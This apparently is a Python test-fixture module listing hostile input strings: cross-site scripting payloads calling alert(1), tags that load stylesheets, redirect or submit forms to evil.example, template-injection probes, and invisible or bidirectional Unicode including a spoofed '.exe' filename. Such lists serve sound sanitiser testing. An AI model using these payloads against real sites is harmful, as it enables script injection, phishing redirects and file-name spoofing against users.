"""Strings that want to be more than text: markup, scripts, templates, directions, nothing at all.

Each script among them calls ``alert``, so that a browser that runs one opens a dialog.
"""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input type=submit id=x>",
    "<a href=javascript:alert(1)>click</a>",
    "<p style='position:fixed;inset:0;background:red'>over everything</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title></textarea></pre></td></tr></table><script>alert(1)</script>",
    "<x contenteditable onblur=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<time datetime=2020-01-01 onmouseover=alert(1)>",
    "<button data-copy=x class=copy onclick=alert(1)>",
    "<div id=now data-refresh=https://evil.example/ data-every=0>",
)
QUOTES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`-alert(1)-`",
    '\\"; alert(1); //',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;#60; &quot;",
)
TEMPLATES = ("{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ visitor.form_token }}", "{# nothing")
UNSEEN = (
    "\u202egpj.exe",
    "\u2066\u2067\u2068 isolated \u2069",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060",
    "\u00ad\u034f\u115f\u3164\u2800 blank letters",
    "\u0001\u001b[31m\u007f\u0085\u2028\u2029",
    "tags \U000e0041\U000e0042",
    "\u0645\u0631\u062d\u0628\u0627 <b> \u05e9\u05dc\u05d5\u05dd",
    "z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d",
    "\ufffd\ufffe\uffff \ue000",
)
PLAIN = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "\uff1cscript\uff1e",
    "\u0130\u0131\u017f\u212a",
    "null",
    "-0",
    " ",
)
LONG = ("x" * 200, "\u202e" * 120, "<b>" * 60, "\U0001f600" * 60)

ALL = (*MARKUP, *QUOTES, *TEMPLATES, *UNSEEN, *PLAIN, *LONG)
